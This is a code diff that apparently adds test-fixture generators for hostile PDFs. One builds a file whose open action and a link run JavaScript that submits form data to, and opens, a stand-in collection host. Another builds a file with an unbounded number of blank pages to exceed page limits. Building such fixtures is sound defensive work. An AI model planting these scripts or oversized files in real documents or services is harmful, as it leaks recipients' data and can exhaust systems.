@@ -113,3 +113,19 @@ function encryptStreams(doc: PDFDocument, fileKey: Buffer): void {
     doc.context.assign(ref, PDFRawStream.of(object.dict, rc4(key, Buffer.from(object.contents))));
   }
 }
+
+/** JavaScript that runs when the file opens (`/OpenAction`) and from a link, as Acrobat would run it. */
+export async function javaScriptPdf(base: Uint8Array): Promise<Uint8Array> {
+  const doc = await PDFDocument.load(base);
+  const script = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("hello"); this.submitForm("https://collect.example.net/");') }) as PDFDict;
+  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(script));
+  addLink(doc, doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.launchURL("https://collect.example.net/");') }) as PDFDict);
+  return doc.save({ useObjectStreams: false });
+}
+
+/** `pages` blank pages: a "form" far over any page limit, cheap to build and to send. */
+export async function manyPagesPdf(pages: number): Promise<Uint8Array> {
+  const doc = await PDFDocument.create();
+  for (let i = 0; i < pages; i += 1) doc.addPage([200, 200]);
+  return doc.save({ useObjectStreams: true });
+}
